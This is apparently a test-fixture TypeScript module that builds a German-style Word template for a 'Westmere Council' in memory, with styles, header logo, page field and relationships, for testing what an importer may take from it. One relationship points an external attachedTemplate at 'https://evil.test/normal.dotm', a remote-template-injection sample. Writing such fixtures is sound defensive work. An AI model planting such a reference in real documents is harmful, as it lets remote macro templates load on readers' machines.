// A Word file such as a council might have, with what may be taken from it and much that may not.
import { strToU8, zipSync } from "fflate";
import { PNG } from "pngjs";

const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const namespaces = [
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"',
  `xmlns:r="${office}"`,
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"',
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"',
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"',
  'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"',
  'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"',
].join(" ");

export function logo(): Uint8Array {
  const picture = new PNG({ width: 120, height: 40 });
  for (let at = 0; at < picture.data.length; at += 4) picture.data.set([0x4b, 0x1e, 0x78, 0xff], at);
  return new Uint8Array(PNG.sync.write(picture));
}

export const picture = (id: string, more = "") =>
  `<w:r><w:drawing><wp:inline distT="0" distB="0"><wp:extent cx="1143000" cy="381000"/><wp:docPr id="1" name="Logo" descr="Westmere Council">${more}</wp:docPr><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1143000" cy="381000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;

export const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;
export const field = (instruction: string, result: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
export const paragraph = (content: string, style = "Kopf") =>
  `<w:p w14:paraId="11111111"><w:pPr><w:pStyle w:val="${style}"/></w:pPr>${content}</w:p>`;

/** Ids are those of a Word in German: only the names of styles are the same everywhere. */
const style = (id: string, name: string, content = "", type = "paragraph") =>
  `<w:style w:type="${type}" w:styleId="${id}"${id === "Standard" ? ' w:default="1"' : ""}><w:name w:val="${name}"/>${id === "Standard" ? "" : '<w:basedOn w:val="Standard"/>'}${content}</w:style>`;

export const purple = '<w:rPr><w:b/><w:color w:val="4B1E78"/><w:sz w:val="40"/></w:rPr>';

const styles = [
  '<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/><w:sz w:val="23"/><w:lang w:val="de-DE"/></w:rPr></w:rPrDefault></w:docDefaults>',
  "<w:latentStyles/>",
  style("Standard", "Normal", '<w:rPr><w:lang w:val="de-DE"/></w:rPr>'),
  style(
    "berschrift1",
    "heading 1",
    `<w:pPr><w:numPr><w:numId w:val="3"/></w:numPr><w:outlineLvl w:val="9"/></w:pPr>${purple}`,
  ),
  style("berschrift2", "heading 2", purple),
  style("Kopf", "header", '<w:pPr><w:jc w:val="right"/></w:pPr>'),
  style("Slogan", "Council slogan", "<w:rPr><w:i/><w:vanish/></w:rPr>"),
].join("");

export interface Parts {
  readonly header?: string;
  readonly footer?: string;
  readonly first?: string;
  readonly body?: string;
  readonly styles?: string;
  readonly headerRelationships?: string;
  readonly more?: Readonly<Record<string, string | Uint8Array>>;
}

const relationship = (id: string, kind: string, target: string, more = "") =>
  `<Relationship Id="${id}" Type="${office}/${kind}" Target="${target}"${more}/>`;
const relationships = (content: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`;
const external = ' TargetMode="External"';

export function templateFiles({ header, footer, first, body, styles: given, headerRelationships, more }: Parts = {}) {
  const reference = (kind: string, type: string, id: string) => `<w:${kind}Reference w:type="${type}" r:id="${id}"/>`;
  const section = `<w:sectPr>${reference("header", "default", "h")}${reference("footer", "default", "f")}${first ? `${reference("header", "first", "h1")}<w:titlePg/>` : ""}</w:sectPr>`;
  return {
    "[Content_Types].xml": "<Types/>",
    "_rels/.rels": relationships(relationship("rId1", "officeDocument", "word/document.xml")),
    "word/document.xml": `<w:document ${namespaces}><w:body>${body ?? `<w:p>${run("Words of the template itself")}</w:p>`}${section}</w:body></w:document>`,
    "word/_rels/document.xml.rels": relationships(
      [
        relationship("s", "styles", "styles.xml"),
        relationship("t", "theme", "theme/theme1.xml"),
        relationship("h", "header", "header3.xml"),
        relationship("h1", "header", "header4.xml"),
        relationship("f", "footer", "/word/footer1.xml"),
        relationship("x", "attachedTemplate", "https://evil.test/normal.dotm", external),
      ].join(""),
    ),
    "word/styles.xml": `<w:styles ${namespaces}>${given ?? styles}</w:styles>`,
    "word/theme/theme1.xml":
      '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:clrScheme name="x"><a:dk1><a:sysClr val="windowText" lastClr="111111"/></a:dk1><a:accent1><a:srgbClr val="4B1E78"/></a:accent1></a:clrScheme><a:fontScheme name="x"><a:majorFont><a:latin typeface="Gill Sans MT"/></a:majorFont><a:minorFont><a:latin typeface="Verdana"/></a:minorFont></a:fontScheme></a:themeElements></a:theme>',
    "word/header3.xml": `<w:hdr ${namespaces}>${header ?? paragraph(`${picture("logo")}${run("Westmere Council")}`)}</w:hdr>`,
    "word/header4.xml": `<w:hdr ${namespaces}>${first ?? ""}</w:hdr>`,
    "word/footer1.xml": `<w:ftr ${namespaces}>${footer ?? paragraph(`${run("Sheet ")}${field("PAGE \\* MERGEFORMAT", "7")}`)}</w:ftr>`,
    "word/_rels/header3.xml.rels": relationships(
      headerRelationships ?? relationship("logo", "image", "media/logo.bin"),
    ),
    "word/media/logo.bin": logo(),
    ...more,
  } as Readonly<Record<string, string | Uint8Array>>;
}

export function zipped(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
  const bytes = Object.entries(files).map(([path, data]) => [path, typeof data === "string" ? strToU8(data) : data]);
  return zipSync(Object.fromEntries(bytes));
}

export const councilTemplate = (parts: Parts = {}) => zipped(templateFiles(parts));
